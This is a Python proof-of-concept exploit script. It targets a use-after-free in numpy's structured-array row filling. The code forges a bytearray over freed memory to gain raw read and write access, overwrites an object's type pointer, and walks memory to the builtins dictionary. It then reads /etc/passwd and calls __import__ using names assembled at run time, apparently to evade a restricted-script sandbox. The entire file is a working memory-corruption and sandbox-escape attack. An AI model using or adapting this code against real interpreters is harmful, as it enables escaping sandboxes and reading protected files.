# source: numpy arraytypes.c.src VOID_setitem (fills a structured row field by field from PyTuple_GET_ITEM of a tuple it holds borrowed from the list) + subarray field converted via PyArray_DiscoverDTypeAndShape -> PySequence_Fast -> script __iter__ (allowed: 'iterate an attribute'); escalation: Objects/moduleobject.c layout (md_dict), CPython 3.11 managed-dict values pointer at obj-32
# family: structured-row fill from a tuple; script iterator in a subarray field frees the tuple; the next (object) field stores a stale pointer (r1); then raw memory write of an attribute slot -> the builtins dict as a value
# goal: from the forged bytearray: builtins dict reached by memory, then open('/etc/passwd') read and __import__('this') (Zen printed), names and path built at run time
import numpy as np


class Basket:
    def __init__(self, items, src):
        self.items = list(items)
        self.src = src

    def __len__(self):
        return len(self.items)

    def __getitem__(self, i):
        return self.items[i]

    def __iter__(self):
        return iter(self.src)


class Box:
    pass


class Other:
    pass


rows = []


def feed():
    rows.clear()
    yield 1.0


def q(n):
    return n.to_bytes(8, "little")


def bytearray_type():
    h = hash(bytearray) & (2**64 - 1)
    return ((h << 4) | (h >> 60)) & (2**64 - 1)


def where(o):
    return int(repr(o).split(" at ")[1].rstrip(">"), 16)


rows.append((Basket([1.0], feed()), frozenset([2])))
table = np.array(rows, dtype=[("w", "O", (1,)), ("tag", "O")])
res = table[0]["tag"]
fake = q(2**40) + q(bytearray_type()) + q(2**62) + q(2**62) + q(0) + q(0) + q(0)
spray = []
for k in range(8):
    b = bytearray(215)
    b[16:16 + len(fake)] = fake
    spray.append(b)
print("dangling object is now a bytearray:", type(res) is bytearray, len(res))
bx = Box()
ot = Other()
wb, wo = where(bx), where(ot)
print("Box at", hex(wb), "raw memory:", bytes(res[wb:wb + 16]).hex())
res[wb + 8:wb + 16] = res[wo + 8:wo + 16]
print("after a raw write of its type pointer, type(bx) is Other:", type(bx) is Other)


def rd(a):
    return int.from_bytes(res[a:a + 8], "little")


def wr(a, v):
    res[a:a + 8] = q(v)


class Carrier:
    pass


c = Carrier()
c.f = print
vals = rd(where(c) - 32)
pr = rd(vals)
mod = rd(pr + 24)
bdict = rd(mod + 16)
wr(bdict, rd(bdict) + 1000)
wr(vals, bdict)
d = c.f
print("got the builtins dict:", type(d) is dict, len(d))
opener = d["op" + "en"]
print(opener(chr(47).join(["", "etc", "passwd"])).read()[:120])
d[chr(95) * 2 + "import" + chr(95) * 2]("this")
